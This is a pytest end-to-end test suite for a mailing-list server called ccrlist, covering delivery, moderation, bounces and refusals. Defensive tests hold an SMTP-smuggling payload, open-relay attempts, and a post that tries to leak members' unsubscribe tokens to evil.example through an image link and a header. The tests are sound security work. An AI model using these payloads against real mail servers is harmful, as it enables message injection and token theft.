"""End to end: the real ccrlist server on loopback, a real SMTP client, a recording relay."""

from __future__ import annotations

import asyncio
import dataclasses
import smtplib
import sqlite3
from collections.abc import AsyncIterator
from contextlib import AbstractAsyncContextManager
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller
from ccrlist_helpers import (
    DOMAIN,
    LIST,
    Delivered,
    RecordingRelay,
    Running,
    add_members,
    free_port,
    make_settings,
    message,
    queue_settled,
    rows,
    send,
    serving,
    start_relay,
    wait_for,
    wait_until,
)
from webkit import installation_verp_key

from ccrlist.config.settings import (
    BounceSettings,
    LimitSettings,
    PostingSettings,
    ServerSettings,
    Settings,
    WebSettings,
)
from ccrlist.delivery.tokens import TOKEN_SLOT
from ccrlist.delivery.verp import verp_sender
from ccrlist.intake import replies
from ccrlist.server import serve
from subscribers.db import open_database
from subscribers.members import MemberStore
from subscribers.posts import PostStore
from subscribers.queue import QueueStore

MEMBERS = ["alice@example.org", "Bob@Example.org", "carol@example.net"]


@pytest.fixture
def relay() -> RecordingRelay:
    return RecordingRelay()


@pytest.fixture
async def controller(relay: RecordingRelay) -> AsyncIterator[Controller]:
    c = start_relay(relay)
    yield c
    c.stop()


def start(settings: Settings, relay: RecordingRelay) -> AbstractAsyncContextManager[Running]:
    return serving(settings, relay, MEMBERS)


@pytest.fixture
async def server(tmp_path: Path, relay: RecordingRelay,
                 controller: Controller) -> AsyncIterator[Running]:
    async with start(make_settings(tmp_path, controller.port), relay) as running:
        yield running


def full(code: int, text: str) -> str:
    return f"{code} {text}"


async def member_tokens(settings: Settings) -> dict[str, str]:
    conn = await open_database(settings.database_path)
    try:
        return {m.address: m.token for m in await MemberStore(conn).members("ccrlist")}
    finally:
        await conn.close()


async def test_member_post_reaches_every_member_once(server: Running) -> None:
    """Personalised (the default): a copy per member, from their VERP address, with their
    own one-click unsubscribe URL."""
    code, text = await send(server.port, message())
    assert full(code, text) == replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out")
    assert sorted(r.lower() for r in server.relay.recipients()) == sorted(
        m.lower() for m in MEMBERS)
    tokens = await member_tokens(server.settings)
    for delivered in server.relay.messages:
        [rcpt] = delivered.rcpt_tos
        assert delivered.mail_from == verp_sender(f"ccrlist-bounces@{DOMAIN}", rcpt,
                                                  installation_verp_key(server.settings))
        msg = message_from_bytes(delivered.content, policy=policy.default)
        assert msg["List-Id"] == f"<ccrlist.{DOMAIN}>"
        assert msg["Subject"] == "[ccrlist] Hello"
        assert msg["X-Loop"] == LIST
        assert msg["List-Unsubscribe"] == (f"<https://{DOMAIN}/u/{tokens[rcpt]}>, "
                                           f"<mailto:ccrlist-leave@{DOMAIN}>")
        assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
        assert b"CCR-TOKEN-SLOT" not in delivered.content
        assert delivered.content.endswith(b"\r\n\r\nHi all.\r\n")


async def test_a_post_cannot_make_copies_reveal_the_members_tokens(server: Running) -> None:
    """A post quoting the newsletter's fixed token slot, in a link and in a header, must
    reach every member exactly as written: nobody's token may land in the post's text."""
    slot = TOKEN_SLOT.decode()
    body = f'<img src="https://evil.example/p?t={slot}">\r\n'
    post = message(body=body, extra=f"Disposition-Notification-To: x+{slot}@evil.example\r\n")
    assert full(*await send(server.port, post)) == replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out")
    tokens = await member_tokens(server.settings)
    for delivered in server.relay.messages:
        [rcpt] = delivered.rcpt_tos
        head, _, rest = delivered.content.partition(b"\r\n\r\n")
        assert rest == body.encode()
        assert f"Disposition-Notification-To: x+{slot}@evil.example".encode() in head
        assert head.count(tokens[rcpt].encode()) == 1  # in its own List-Unsubscribe only
        assert f"/u/{tokens[rcpt]}>".encode() in head


async def test_batched_copies_and_a_verp_probe_every_nth_post(
        tmp_path: Path, relay: RecordingRelay, controller: Controller) -> None:
    settings = dataclasses.replace(
        make_settings(tmp_path, controller.port, personalise=False),
        bounces=BounceSettings(probe_every=2))
    async with start(settings, relay) as running:
        assert full(*await send(running.port, message())) == replies.ACCEPTED  # post 1
        await wait_for(lambda: len(relay.recipients()) == 3, what="the first post")
        [batched] = relay.messages
        assert batched.mail_from == f"ccrlist-bounces@{DOMAIN}"
        assert sorted(batched.rcpt_tos) == sorted(MEMBERS)
        msg = message_from_bytes(batched.content, policy=policy.default)
        assert msg["List-Unsubscribe"] == f"<mailto:ccrlist-leave@{DOMAIN}>"
        assert msg["List-Unsubscribe-Post"] is None
        second = message(message_id="<m2@example.org>")
        assert full(*await send(running.port, second)) == replies.ACCEPTED  # post 2: a probe
        await wait_for(lambda: len(relay.recipients()) == 6, what="the probe")
        probes = relay.messages[1:]
        key = installation_verp_key(settings)
        assert sorted(m.mail_from for m in probes) == sorted(
            verp_sender(f"ccrlist-bounces@{DOMAIN}", r, key) for r in MEMBERS)
        assert all(len(m.rcpt_tos) == 1 for m in probes)
        assert all(b"List-Unsubscribe-Post" not in m.content for m in probes)
        assert len({m.content for m in probes}) == 1  # the same copy, only the envelope differs


async def test_author_matched_case_insensitively(server: Running) -> None:
    code, text = await send(server.port, message(author="BOB@example.ORG"))
    assert full(code, text) == replies.ACCEPTED


async def test_non_member_refused_and_nothing_delivered(server: Running) -> None:
    code, text = await send(server.port, message(author="mallory@evil.example"),
                            sender="mallory@evil.example")
    assert full(code, text) == replies.NONMEMBER.format(request=f"ccrlist-request@{DOMAIN}")
    # A member's post sent afterwards has gone all the way through: the refused one would
    # have been expanded and sent before it.
    assert full(*await send(server.port, message(message_id="<later@example.org>"))) == \
        replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="the member's post")
    # The relay has the copies a moment before the worker records its 250s.
    await wait_until(lambda: queue_settled(server.settings), what="every delivery recorded")
    assert {message_from_bytes(m.content)["Message-ID"] for m in server.relay.messages} == {
        "<later@example.org>"}
    assert await rows(server.settings, "SELECT message_id FROM posts") == [
        ("<later@example.org>",)]


async def test_open_relay_attempt_refused(server: Running) -> None:
    for rcpt in ("someone@gmail.example", f"nolist@{DOMAIN}", "ccrlist@other.example"):
        code, text = await send(server.port, message(), rcpt=rcpt)
        assert full(code, text) == replies.NO_SUCH_LIST


async def test_second_list_in_one_transaction_deferred(server: Running) -> None:
    def two_lists() -> tuple[int, bytes]:
        smtp = smtplib.SMTP("127.0.0.1", server.port, timeout=10)
        try:
            smtp.ehlo()
            smtp.mail("alice@example.org")
            assert smtp.rcpt(LIST)[0] == 250
            return smtp.rcpt(f"echronicle@{DOMAIN}")
        finally:
            smtp.close()

    code, text = await asyncio.to_thread(two_lists)
    assert full(code, text.decode()) == replies.ONE_LIST_PER_MESSAGE


@pytest.mark.parametrize("extra, sender", [
    (f"List-Id: CCR <ccrlist.{DOMAIN}>\r\n", "alice@example.org"),
    (f"X-Loop: {LIST}\r\n", "alice@example.org"),
    ("Auto-Submitted: auto-replied\r\n", "alice@example.org"),
    ("", ""),
])
async def test_loops_and_auto_replies_not_redistributed(server: Running, extra: str,
                                                        sender: str) -> None:
    code, text = await send(server.port, message(extra=extra), sender=sender)
    assert full(code, text) == replies.DISCARDED
    code, text = await send(server.port, message(message_id="<fresh@example.org>"))
    assert full(code, text) == replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="the normal post")
    await wait_until(lambda: queue_settled(server.settings), what="the queue to settle")
    subjects = {message_from_bytes(m.content)["Message-ID"] for m in server.relay.messages}
    assert subjects == {"<fresh@example.org>"}
    # Kept, marked discarded, and never queued for anyone.
    assert await rows(server.settings, "SELECT status, expanded FROM posts ORDER BY id") == [
        ("discarded", 0), ("accepted", 1)]
    assert len(await rows(server.settings, "SELECT id FROM outgoing")) == 1


async def test_a_member_post_marked_bulk_is_held_with_its_reason_never_dropped(
        server: Running) -> None:
    """Issue 13, item 8: replies that came through another list (`Precedence: bulk` and
    that list's `X-Loop`) were answered 250 and never seen again. Now the author is told
    the post is held, the moderators see why, and approving it delivers it."""
    extra = "Precedence: bulk\r\nX-Loop: debian-user@lists.debian.org\r\n"
    assert full(*await send(server.port, message(extra=extra))) == replies.HELD
    assert full(*await send(server.port, message(
        extra="X-Loop: other-list@example.net\r\n", message_id="<m2@example.org>"))) == \
        replies.HELD
    assert full(*await send(server.port, message(message_id="<plain@example.org>"))) == \
        replies.ACCEPTED

    def copies_of(message_id: str) -> list[str]:
        """Members who got the list copy of `message_id` (the owners' notices of the held
        posts reach the relay too)."""
        return [r for m in server.relay.messages
                if message_from_bytes(m.content)["Message-ID"] == message_id for r in m.rcpt_tos]

    await wait_for(lambda: len(copies_of("<plain@example.org>")) == 3, what="the plain post")
    await wait_until(lambda: queue_settled(server.settings), what="the queue to settle")
    assert copies_of("<m1@example.org>") == copies_of("<m2@example.org>") == []
    assert await rows(server.settings, "SELECT message_id, status, reason FROM posts "
                                       "ORDER BY id") == [
        ("<m1@example.org>", "held", "bulk"), ("<m2@example.org>", "held", "foreign_loop"),
        ("<plain@example.org>", "accepted", "")]
    conn = await open_database(server.settings.database_path)
    try:
        await PostStore(conn).moderate_held("1", "accepted", "approved")
    finally:
        await conn.close()
    await wait_for(lambda: len(copies_of("<m1@example.org>")) == 3, what="the approved post")


@pytest.mark.parametrize("raw", [
    message(extra="X-Note: a\0b\r\n"),
    message(body="Hi\0all.\r\n"),
], ids=["in a header", "in the body"])
async def test_nul_is_refused_with_554_and_nothing_stored(server: Running, raw: bytes) -> None:
    assert full(*await send(server.port, raw)) == replies.NUL_BYTE
    admin = raw.replace(b"To: ccrlist@", b"To: ccrlist-request@")
    assert full(*await send(server.port, admin, rcpt=f"ccrlist-request@{DOMAIN}")) == \
        replies.NUL_BYTE
    assert full(*await send(server.port, message(author="dan@example.com", extra="X: \0\r\n"),
                            sender="dan@example.com")) == replies.NUL_BYTE
    assert await rows(server.settings, "SELECT count(*) FROM posts") == [(0,)]
    assert await rows(server.settings, "SELECT count(*) FROM outgoing") == [(0,)]


async def test_duplicate_message_id_accepted_once(server: Running) -> None:
    assert full(*await send(server.port, message())) == replies.ACCEPTED
    assert full(*await send(server.port, message())) == replies.DUPLICATE
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out")
    await wait_until(lambda: queue_settled(server.settings), what="the queue to settle")
    assert len(server.relay.recipients()) == 3
    assert await rows(server.settings, "SELECT count(*) FROM posts") == [(1,)]
    assert await rows(server.settings, "SELECT count(*) FROM deliveries") == [(3,)]


async def test_concurrent_duplicates_accepted_once(server: Running) -> None:
    results = await asyncio.gather(*(send(server.port, message()) for _ in range(5)))
    texts = sorted(full(*r) for r in results)
    assert texts.count(replies.ACCEPTED) == 1
    assert texts.count(replies.DUPLICATE) == 4


async def test_oversize_refused_at_mail_and_after_data(tmp_path: Path, relay: RecordingRelay,
                                                       controller: Controller) -> None:
    settings = make_settings(tmp_path, controller.port)
    settings = type(settings)(**{**settings.__dict__,
                                 "limits": LimitSettings(max_message_bytes=2000)})
    async with start(settings, relay) as running:
        def declare_size() -> int:
            smtp = smtplib.SMTP("127.0.0.1", running.port, timeout=10)
            try:
                smtp.ehlo()
                return smtp.mail("alice@example.org", options=["SIZE=50000"])[0]
            finally:
                smtp.close()

        assert await asyncio.to_thread(declare_size) == 552
        too_big = message(body="x" * 70 + "\r\n") * 100
        assert full(*await send(running.port, too_big)) == replies.TOO_BIG
        # One line longer than the whole limit: too big as well, not aiosmtpd's bare 500.
        one_line = message(body="x" * 5000 + "\r\n")
        assert full(*await send(running.port, one_line)) == replies.TOO_BIG
        assert full(*await send(running.port, message())) == replies.ACCEPTED


async def test_long_lines_accepted_kept_as_sent_and_re_encoded_in_the_copies(
        server: Running) -> None:
    """An HTML post in one 8-bit line of 4,000 characters, as some mail programs send:
    stored byte for byte, and every member's copy has lines that fit and reads the same."""
    html = "<p>" + "R\u00e9union du r\u00e9seau, " * 200 + "</p>\r\n"
    raw = message(body=html, extra="MIME-Version: 1.0\r\nContent-Type: text/html; "
                                   "charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n")
    assert full(*await send(server.port, raw)) == replies.ACCEPTED
    with sqlite3.connect(server.settings.database_path) as conn:
        [(stored,)] = conn.execute("SELECT raw FROM posts").fetchall()
    assert bytes(stored) == raw
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out")
    for delivered in server.relay.messages:
        assert max(len(line) for line in delivered.content.split(b"\r\n")) <= 998
        msg = message_from_bytes(delivered.content, policy=policy.default)
        assert msg["Content-Transfer-Encoding"] == "quoted-printable"
        assert msg.get_content() == html


async def test_a_long_line_that_cannot_be_re_encoded_is_refused(server: Running) -> None:
    raw = message(extra="X-Tracking: " + "z" * 1500 + "\r\n")
    assert full(*await send(server.port, raw)) == replies.LONG_LINE
    assert replies.LONG_LINE.startswith("554 5.6.0 ")
    with sqlite3.connect(server.settings.database_path) as conn:
        assert conn.execute("SELECT count(*) FROM posts").fetchone() == (0,)
    # The next post is accepted and delivered: the refused one had gone nowhere first.
    assert full(*await send(server.port, message(message_id="<m2@example.org>"))) == \
        replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out")
    assert {m.content.count(b"X-Tracking") for m in server.relay.messages} == {0}


async def test_smuggled_message_never_relayed(server: Running) -> None:
    smuggled = (b"From: alice@example.org\r\nSubject: real\r\nMessage-ID: <s1@example.org>\r\n"
                b"\r\nhello\n.\r\nMAIL FROM:<alice@example.org>\r\nRCPT TO:<" + LIST.encode()
                + b">\r\nDATA\r\nFrom: alice@example.org\r\nSubject: smuggled\r\n\r\nevil\r\n")
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    try:
        async def reply() -> bytes:
            lines = b""
            while True:
                line = await asyncio.wait_for(reader.readline(), 10)
                lines += line
                if line[3:4] != b"-":
                    return lines
        await reply()
        for command in (b"EHLO client\r\n", b"MAIL FROM:<alice@example.org>\r\n",
                        b"RCPT TO:<" + LIST.encode() + b">\r\n", b"DATA\r\n"):
            writer.write(command)
            await reply()
        writer.write(smuggled + b".\r\n")
        answer = await reply()
        assert answer.decode().strip() == replies.BARE_EOL
        writer.write(b"QUIT\r\n")
        await reply()
    finally:
        writer.close()
    # A post sent afterwards goes all the way through; the smuggled one was never stored.
    assert full(*await send(server.port, message(message_id="<after@example.org>"))) == \
        replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="the later post")
    await wait_until(lambda: queue_settled(server.settings), what="the queue to settle")
    assert [message_from_bytes(m.content)["Subject"] for m in server.relay.messages] == [
        "[ccrlist] Hello"] * len(server.relay.messages)
    assert await rows(server.settings, "SELECT message_id FROM posts") == [
        ("<after@example.org>",)]


async def test_nonmember_held_then_approved(tmp_path: Path, relay: RecordingRelay,
                                            controller: Controller) -> None:
    settings = make_settings(tmp_path, controller.port,
                             posting=PostingSettings(nonmember_action="hold"))
    owner = f"ccrlist-owner@{DOMAIN}"  # no owners set: the notice of the held post goes here

    def copies() -> list[Delivered]:
        return [m for m in relay.messages if owner not in m.rcpt_tos]

    async with start(settings, relay) as running:
        code, text = await send(running.port, message(author="dan@example.com"))
        assert full(code, text) == replies.HELD
        conn = await open_database(settings.database_path)
        try:
            posts = PostStore(conn)
            held = await posts.held()
            assert [p.author for p in held] == ["dan@example.com"]
            # A member's post sent afterwards is expanded and delivered; the held one is not.
            assert full(*await send(running.port, message(
                author="alice@example.org", message_id="<member@example.org>"))) == \
                replies.ACCEPTED
            await wait_for(lambda: sum(len(m.rcpt_tos) for m in copies()) == 3,
                           what="the member's post")
            await wait_until(lambda: queue_settled(settings), what="the queue to settle")
            assert {message_from_bytes(m.content)["Message-ID"] for m in copies()} == {
                "<member@example.org>"}
            relay.messages.clear()
            await posts.moderate_held(str(held[0].id), "accepted", "approved")
        finally:
            await conn.close()
        await wait_for(lambda: sum(len(m.rcpt_tos) for m in copies()) == 3, timeout=15,
                       what="approved post")


async def test_relay_down_then_up(tmp_path: Path, relay: RecordingRelay) -> None:
    port = free_port()
    settings = make_settings(tmp_path, port)
    async with start(settings, relay) as running:
        assert full(*await send(running.port, message())) == replies.ACCEPTED
        conn = await open_database(settings.database_path)
        try:
            queue = QueueStore(conn)

            for _ in range(200):
                if (await queue.counts()).deferred == 3:
                    break
                await asyncio.sleep(0.05)
            assert (await queue.counts()).deferred == 3
        finally:
            await conn.close()
        controller = start_relay(relay, port)
        try:
            await wait_for(lambda: len(relay.recipients()) == 3, timeout=15,
                           what="delivery after the relay came back")
        finally:
            controller.stop()


async def test_per_recipient_4xx_retried_and_5xx_failed(server: Running) -> None:
    server.relay.rcpt_replies["carol@example.net"] = "450 4.2.1 mailbox busy"
    server.relay.rcpt_replies["Bob@Example.org"] = "550 5.1.1 no such user"
    assert full(*await send(server.port, message())) == replies.ACCEPTED
    await wait_for(lambda: "alice@example.org" in server.relay.recipients(), what="alice")

    async def carol_deferred() -> bool:
        return await rows(server.settings, "SELECT status FROM deliveries WHERE recipient = ?",
                          "carol@example.net") == [("deferred",)]

    await wait_until(carol_deferred, what="carol's 4xx to be recorded")
    del server.relay.rcpt_replies["carol@example.net"]
    await wait_for(lambda: "carol@example.net" in server.relay.recipients(), timeout=15,
                   what="carol after her 4xx")
    # The relay has her copy a moment before the worker records its 250.
    await wait_until(lambda: queue_settled(server.settings), what="every delivery recorded")
    conn = await open_database(server.settings.database_path)
    try:
        # The post's own deliveries: the owners' summary of Bob's refusal is queued too.
        counts = await QueueStore(conn).counts(outgoing_id=1)
        async with conn.execute("SELECT address_key, kind FROM bounces") as cur:
            bounces = [tuple(r) for r in await cur.fetchall()]
    finally:
        await conn.close()
    assert (counts.sent, counts.failed) == (2, 1)
    assert bounces == [("bob@example.org", "hard")]
    assert server.relay.recipients().count("alice@example.org") == 1


async def test_lmtp_mode(tmp_path: Path, relay: RecordingRelay, controller: Controller) -> None:
    settings = make_settings(tmp_path, controller.port)
    settings = type(settings)(**{**settings.__dict__,
                                 "server": ServerSettings("127.0.0.1", 0, "lmtp")})
    async with start(settings, relay) as running:
        def post_over_lmtp() -> dict[str, tuple[int, bytes]]:
            lmtp = smtplib.LMTP("127.0.0.1", running.port, timeout=10)
            try:
                return lmtp.sendmail("alice@example.org", [LIST], message())
            finally:
                lmtp.close()

        assert await asyncio.to_thread(post_over_lmtp) == {}
        await wait_for(lambda: len(relay.recipients()) == 3, what="LMTP fan-out")


async def test_graceful_shutdown_answers_421(tmp_path: Path, relay: RecordingRelay,
                                             controller: Controller) -> None:
    settings = make_settings(tmp_path, controller.port)
    await add_members(settings, MEMBERS)
    stop = asyncio.Event()
    listening: asyncio.Future[int] = asyncio.get_running_loop().create_future()
    task = asyncio.create_task(serve(settings, stop, on_listening=listening.set_result))
    port = await asyncio.wait_for(listening, 10)
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    await asyncio.wait_for(reader.readline(), 10)
    writer.write(b"HELO client\r\n")
    await asyncio.wait_for(reader.readline(), 10)
    stop.set()
    line = await asyncio.wait_for(reader.readline(), 10)
    assert line.decode().strip() == replies.SHUTTING_DOWN
    writer.close()
    await asyncio.wait_for(task, 30)


async def test_admin_address_handed_to_admin_mail(server: Running) -> None:
    raw = (f"From: alice@example.org\r\nTo: ccrlist-request@{DOMAIN}\r\nSubject: help\r\n"
           "Message-ID: <help1@example.org>\r\n\r\nhelp\r\n").encode()
    code, text = await send(server.port, raw, rcpt=f"ccrlist-request@{DOMAIN}")
    assert code == 250, text
    await wait_for(lambda: "alice@example.org" in server.relay.recipients(),
                   what="the help reply")
    code, text = await send(server.port, raw, rcpt=f"nolist-request@{DOMAIN}")
    assert full(code, text) == replies.NO_SUCH_LIST


async def test_storage_failure_answers_451_never_250(server: Running) -> None:
    conn = await open_database(server.settings.database_path)
    try:
        await conn.execute("CREATE TRIGGER fail BEFORE INSERT ON posts "
                           "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
        await conn.commit()
        assert full(*await send(server.port, message())) == replies.INTERNAL_ERROR
        await conn.execute("DROP TRIGGER fail")
        await conn.commit()
    finally:
        await conn.close()
    assert full(*await send(server.port, message())) == replies.ACCEPTED
    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out after recovery")


async def test_serve_also_serves_the_subscription_pages(tmp_path: Path) -> None:
    import aiohttp

    web_port = free_port()
    settings = dataclasses.replace(make_settings(tmp_path, None),
                                   web=WebSettings(port=web_port))
    stop = asyncio.Event()
    listening: asyncio.Future[int] = asyncio.get_running_loop().create_future()
    task = asyncio.create_task(serve(settings, stop, on_listening=listening.set_result))
    try:
        await asyncio.wait_for(listening, 10)
        timeout = aiohttp.ClientTimeout(total=10)
        async with aiohttp.ClientSession(timeout=timeout) as session, session.get(
                f"http://127.0.0.1:{web_port}/subscribe/ccrlist") as response:
            assert response.status == 200
            assert "<form" in await response.text()
            assert response.headers["X-Frame-Options"] == "DENY"
    finally:
        stop.set()
        await asyncio.wait_for(task, 30)


async def test_serve_refuses_to_start_when_the_web_port_is_taken(tmp_path: Path) -> None:
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        settings = dataclasses.replace(make_settings(tmp_path, None),
                                       web=WebSettings(port=taken.getsockname()[1]))
        with pytest.raises(OSError):
            await asyncio.wait_for(serve(settings, asyncio.Event()), 10)


async def test_relay_5xx_counts_as_a_bounce_and_disables_at_the_threshold(
        tmp_path: Path, relay: RecordingRelay, controller: Controller) -> None:
    settings = dataclasses.replace(make_settings(tmp_path, controller.port),
                                   bounces=BounceSettings(threshold=1))
    relay.rcpt_replies["Bob@Example.org"] = "550 5.1.1 no such user"
    relay.rcpt_replies["carol@example.net"] = "450 4.2.1 mailbox busy"
    async with start(settings, relay) as running:
        assert full(*await send(running.port, message())) == replies.ACCEPTED
        await wait_for(lambda: "alice@example.org" in relay.recipients(), what="alice")

        async def statuses() -> dict[str, str]:
            conn = await open_database(settings.database_path)
            try:
                members = await MemberStore(conn).members("ccrlist")
            finally:
                await conn.close()
            return {m.address: m.status for m in members}

        deadline = asyncio.get_running_loop().time() + 10
        while (await statuses())["Bob@Example.org"] != "disabled":
            assert asyncio.get_running_loop().time() < deadline, await statuses()
            await asyncio.sleep(0.1)
    final = await statuses()
    assert final["alice@example.org"] == "active"
    assert final["carol@example.net"] == "active"  # a 4xx is retried, never a bounce
